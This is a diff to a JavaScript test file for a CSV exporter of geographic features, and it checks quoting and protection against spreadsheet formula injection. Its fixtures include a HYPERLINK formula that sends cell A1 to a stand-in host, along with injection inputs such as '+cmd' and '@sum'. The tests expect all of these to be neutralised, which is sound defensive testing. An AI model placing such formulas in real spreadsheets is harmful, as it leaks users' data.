@@ -123,11 +123,11 @@ test('CSV begins with a byte order mark and fid, ends lines with CR LF, and has 
   assert.equal(
     text,
     [
-      '\ufefffid,GID_2,GID_0,COUNTRY,GID_1,NAME_1,NAME_2,code,note',
-      `1,AAA.1.1_1,AAA,Aland,AAA.1_1,North,Næst,${BEYOND_DOUBLES},"'=HYPERLINK(""http://x.test?""&A1)"`,
-      '2,AAA.2.1_1,AAA,Aland,AAA.2_1,South,Søst,1,',
-      '3,BBB.1.1_1,BBB,Beland,BBB.1_1,All,東,2,""',
-      `4,AAA.1.2_1,AAA,Aland,AAA.1_1,North,"Wüst ""late""",3,-`,
+      '\ufeff"fid","GID_2","GID_0","COUNTRY","GID_1","NAME_1","NAME_2","code","note"',
+      `1,"AAA.1.1_1","AAA","Aland","AAA.1_1","North","Næst",${BEYOND_DOUBLES},"'=HYPERLINK(""http://x.test?""&A1)"`,
+      '2,"AAA.2.1_1","AAA","Aland","AAA.2_1","South","Søst",1,',
+      '3,"BBB.1.1_1","BBB","Beland","BBB.1_1","All","東",2,""',
+      '4,"AAA.1.2_1","AAA","Aland","AAA.1_1","North","Wüst ""late""",3,"-"',
       '',
     ].join('\r\n'),
   );
@@ -141,7 +141,7 @@ test('CSV has the columns of all units, an empty cell where one lacks it, and va
     '{"type":"Feature","id":9,"properties":null}',
   ];
   const rows = featuresToCsv(features).join('').slice(1).split('\r\n');
-  assert.deepEqual(rows, ["fid,b,'=c,a", '7,,true,', '8,"{""x"":[1,""y""]}",,1e3', '9,,,', '']);
+  assert.deepEqual(rows, ['"fid","b","\'=c","a"', '7,,true,', '8,"{""x"":[1,""y""]}",,1e3', '9,,,', '']);
 });
 
 test('a text that a spreadsheet would run as a formula is marked; numbers and other texts are not', () => {
@@ -149,13 +149,12 @@ test('a text that a spreadsheet would run as a formula is marked; numbers and ot
     const [, , row = ''] = featuresToCsv([JSON.stringify({ id: 1, properties: { x: value } })]);
     return row.slice('1,'.length, -'\r\n'.length);
   };
-  for (const text of ['=1', '+cmd', '-x', '@sum', '-1+1', '- ']) assert.match(cellOf(text), /^"?'[=+\-@]/, text);
-  for (const text of ['\t=1', '\r=1']) assert.match(cellOf(text), /^"?'\s=1"?$/, text);
-  for (const value of [-5, 0, 1.5, -1e-7, '-5', '+34', '-1.5', '-', "L'Aquila", 'a=b', "'x"])
-    assert.equal(cellOf(value), String(value));
-  assert.equal(cellOf('a,b'), '"a,b"');
-  assert.equal(cellOf('two\nlines'), '"two\nlines"');
-  assert.equal(cellOf(' x'), '" x"');
+  for (const text of ['=1', '+cmd', '-x', '@sum', '-1+1', '- ']) assert.equal(cellOf(text), `"'${text}"`);
+  for (const text of ['\t=1', '\r=1', '\n=1']) assert.equal(cellOf(text), `"'${text}"`);
+  for (const text of ['＝1', '＋cmd', '－x', '＠sum']) assert.equal(cellOf(text), `"'${text}"`);
+  for (const value of [-5, 0, 1.5, -1e-7]) assert.equal(cellOf(value), String(value));
+  for (const text of ['-5', '+34', '-1.5', '-', "L'Aquila", 'a=b', "'x", 'a,b', 'two\nlines', ' x'])
+    assert.equal(cellOf(text), `"${text}"`);
 });
 
 test('the name of a file says what is in it: release, level, parents, and whether units are missing', () => {
